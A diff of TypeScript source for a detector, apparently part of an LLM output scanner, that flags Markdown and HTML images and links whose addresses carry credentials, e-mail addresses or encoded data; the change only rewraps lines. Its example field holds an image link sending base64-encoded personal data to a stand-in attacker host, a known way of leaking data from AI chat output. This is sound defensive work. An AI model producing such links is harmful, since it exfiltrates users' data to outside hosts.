@@ -9,7 +9,8 @@ export const detector: Detector = {
   points: { response: 'deny' },
   version: 1,
   describe: {
-    finds: 'Images and links (Markdown, HTML, bare) whose address holds masked values, credentials, e-mail addresses, encoded text or a slot for data.',
+    finds:
+      'Images and links (Markdown, HTML, bare) whose address holds masked values, credentials, e-mail addresses, encoded text or a slot for data.',
     example: '![x](https://evil.example/p.png?q=bmFtZTogSmFuZSBEb2U=)',
     passes: '![build](https://img.shields.io/badge/build-passing-green.svg?style=flat)',
   },
@@ -24,12 +25,28 @@ const TAXONOMY = ['CWE-201', 'LLM02:2025', 'LLM05:2025'];
 const MARKDOWN = /(!?)\[[^[\]\n]{0,300}\]\([ \t]{0,4}<?((?:https?:)?\/\/[^\s)>"']{4,8192})/g;
 const REFERENCE = /^[ ]{0,3}\[[^\]\n]{1,100}\]:[ \t]{0,8}<?((?:https?:)?\/\/[^\s>]{4,8192})/gm;
 const TAG = /<(img|image|source|video|audio|iframe|embed|object|link|track|input|body|table|td|a|area|form|base|meta)[\s/][^<>]{0,8192}/gi;
-const ATTRIBUTE = /[\s"'/](?:src|srcset|href|xlink:href|data|poster|background|action|formaction|content|style)[ \t]{0,4}=[ \t]{0,4}(?:"([^"]{4,8192})"|'([^']{4,8192})'|([^\s"'>]{4,8192}))/gi;
+const ATTRIBUTE =
+  /[\s"'/](?:src|srcset|href|xlink:href|data|poster|background|action|formaction|content|style)[ \t]{0,4}=[ \t]{0,4}(?:"([^"]{4,8192})"|'([^']{4,8192})'|([^\s"'>]{4,8192}))/gi;
 const IN_VALUE = /(?:https?:)?\/\/[^\s"')>,;]{4,8192}/g;
 const BARE = /\bhttps?:\/\/[^\s<>"'`)\]]{8,8192}/g;
 
 /** Tags whose address is fetched without a click. */
-const FETCHED = new Set(['img', 'image', 'source', 'video', 'audio', 'iframe', 'embed', 'object', 'link', 'track', 'input', 'body', 'table', 'td']);
+const FETCHED = new Set([
+  'img',
+  'image',
+  'source',
+  'video',
+  'audio',
+  'iframe',
+  'embed',
+  'object',
+  'link',
+  'track',
+  'input',
+  'body',
+  'table',
+  'td',
+]);
 
 function setUp({ settings }: DetectorSetup): Scanner {
   const hosts = settings.linkHosts.map((host) => host.toLowerCase());
